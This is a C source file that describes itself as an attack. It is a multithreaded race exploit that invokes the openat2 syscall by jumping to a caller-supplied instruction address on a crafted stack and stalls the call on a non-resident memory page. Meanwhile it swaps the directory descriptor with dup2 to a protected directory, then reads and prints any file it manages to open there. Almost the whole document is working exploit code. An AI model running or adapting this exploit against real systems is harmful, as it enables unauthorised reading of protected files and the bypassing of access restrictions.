/* An attack: threads that are in the middle of an open by a descriptor of their own
   when that becomes one of a directory from which files must not be read so. The arguments are the address of the
   instruction that may make such an open, that of an open_how, the directory, and the name of a file
   below it: prints "no", or what it has read. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

enum { DIR = 100, THREADS = 12 };
static unsigned long gadget, how;
static char *file;
static volatile int got = -1, tried, stop;

/* enter makes the call there. What returns comes back here. */
static long enter(const char *path)
{
	static __thread unsigned long stack[512];
	long r = 437;
	unsigned long back;
	__asm__ volatile("lea 9f(%%rip), %0" : "=r"(back));
	for (int i = 256; i < 512; i++)
		stack[i] = back;
	register long r10 __asm__("r10") = 24;
	register unsigned long to __asm__("r12") = gadget;
	register unsigned long sp __asm__("r13") = (unsigned long)&stack[256];
	__asm__ volatile(
		"mov %%rsp, %%r14\n\tmov %%rbp, %%r15\n\tmov %%r13, %%rsp\n\tjmp *%%r12\n"
		"9:\tmov %%r14, %%rsp\n\tmov %%r15, %%rbp"
		: "+a"(r), "+r"(to), "+r"(sp), "+r"(r10)
		: "D"((long)DIR), "S"(path), "d"(how)
		: "rbx", "rcx", "r8", "r9", "r11", "r14", "r15", "memory", "cc");
	return r;
}

static void *reader(void *arg)
{
	/* The kernel reads the open_how first, and then this page, which is never there. */
	char *page = mmap(0, 4096, PROT_READ, MAP_PRIVATE, *(int *)arg, 0);
	while (!stop) {
		madvise(page, 4096, MADV_DONTNEED);
		long r = enter(page);
		tried++;
		if (r >= 0 && got < 0)
			got = r;
		else if (r >= 0)
			close(r);
	}
	return 0;
}

int main(int argc, char **argv)
{
	char b[64] = "";
	pthread_t t[THREADS];
	gadget = strtoul(argv[1], 0, 0), how = strtoul(argv[2], 0, 0);
	int f = open("path", O_RDWR | O_CREAT | O_TRUNC, 0600);
	memset(b, 0, sizeof b);
	if (ftruncate(f, 4096) || pwrite(f, argv[4], strlen(argv[4]), 0) < 0 || dup2(open(".", O_RDONLY | O_DIRECTORY), DIR) != DIR)
		return 1;
	for (int i = 0; i < THREADS; i++)
		pthread_create(&t[i], 0, reader, &f);
	usleep(20000);
	int proc = open(argv[3], O_RDONLY | O_DIRECTORY);
	dup2(proc, DIR);
	usleep(20000);
	stop = 1;
	for (int i = 0; i < THREADS; i++)
		pthread_join(t[i], 0);
	if (got >= 0)
		printf("read %zd %s\n", read(got, b, sizeof b - 1), b);
	else
		puts(proc < 0 || tried < 100 ? "not tried" : "no");
	return 0;
}
